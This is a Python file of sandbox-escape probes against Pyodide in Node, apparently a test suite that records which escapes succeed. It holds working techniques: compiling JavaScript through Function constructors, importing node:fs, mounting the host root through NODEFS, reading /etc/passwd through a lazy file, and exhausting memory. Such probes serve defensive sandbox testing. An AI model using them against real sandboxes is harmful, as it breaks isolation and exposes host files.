"""Attacks: get out of WebAssembly by way of the JavaScript round it. Only rung 4 has any."""

from pyodide.ffi import JsProxy, run_sync, to_js

# In a Pyodide in plain Node.
FIRES_OUTSIDE = "names_of_power evaluated compiled any_compiler asynchronous_compiler web_assembly_of_its_own folder_of_the_machine"
_WANTED = {"Deno", "process", "require", "fetch", "Worker", "WebSocket", "XMLHttpRequest", "BroadcastChannel", "eval"}


def _reachable(most=1000):
    """Objects of JavaScript that can be reached by names from what Python is given, with the way to them."""
    import js
    import pyodide_js

    waiting = [("js", js), ("pyodide_js", pyodide_js), ("Array", to_js([1]).constructor)]
    seen = set()
    while waiting and len(seen) < most:
        way, thing = waiting.pop(0)
        if thing.js_id in seen:
            continue
        seen.add(thing.js_id)
        yield way, thing
        # The names of an array are numbers, as many as there are bytes.
        names = [] if _has(thing, "byteLength") else _tried(lambda: dir(thing)) or []
        for name in names:
            below = None if name.startswith("__") else _tried(lambda: getattr(thing, name))
            if isinstance(below, JsProxy):
                waiting.append((f"{way}.{name}", below))


def _has(thing, name):
    return _tried(lambda: hasattr(thing, name))


def _tried(look):
    """Some objects, such as prototypes and symbols, cannot be looked at in every way."""
    try:
        return look()
    except Exception as error:
        del error


def names_of_power():
    for way, _ in _reachable():
        if way.rpartition(".")[2] in _WANTED:
            return way


def evaluated():
    from pyodide.code import run_js

    return run_js("Object.getOwnPropertyNames(globalThis).join()")


def compiled():
    return to_js([1]).constructor.constructor("return Object.getOwnPropertyNames(globalThis).join()")()


def any_compiler():
    for way, thing in _reachable():
        got = way.rpartition(".")[2] in ("constructor", "Function") and _tried(lambda: thing("return this")())
        if got:
            return way, got


def asynchronous_compiler():
    import pyodide_js

    return pyodide_js.loadPackage.constructor("return import('node:fs')")()


def web_assembly_of_its_own():
    """With an import of its own choice: it would need something worth importing."""
    import pyodide_js

    return pyodide_js._module.constructor.constructor("return WebAssembly")()


def package_from_outside():
    import pyodide_js

    return run_sync(pyodide_js.loadPackage("https://example.org/a-1.0-py3-none-any.whl"))


def library_from_outside():
    import pyodide_js

    pyodide_js.FS.createLazyFile("/tmp", "lazy", "file:///etc/passwd", True, False)
    with open("/tmp/lazy", "rb") as file:
        return file.read(40)


def folder_of_the_machine():
    import os

    import pyodide_js

    files = pyodide_js.FS
    os.mkdir("/tmp/outside")
    files.mount(files.filesystems.NODEFS, to_js({"root": "/"}), "/tmp/outside")
    return os.listdir("/tmp/outside")


def host_of_this_program():
    """The descriptors of the process itself, and not those of its make-believe system."""
    for way, thing in _reachable():
        for name in ("readSync", "writeSync"):
            if _has(thing, name):
                return f"{way}.{name}"


def buffers():
    """Memory beside the heap that is bounded."""
    kept = []
    for _ in range(16):
        kept.append(to_js(b"x").constructor.new(1 << 28))
        kept[-1].fill(1)
    return f"{len(kept)} buffers of 256 MB"


def heap_without_bound():
    import pyodide_js

    pyodide_js._module._emscripten_resize_heap(3 << 30)
    kept = [bytearray(b"x") * (1 << 28) for _ in range(8)]
    return f"{len(kept)} times 256 MB"
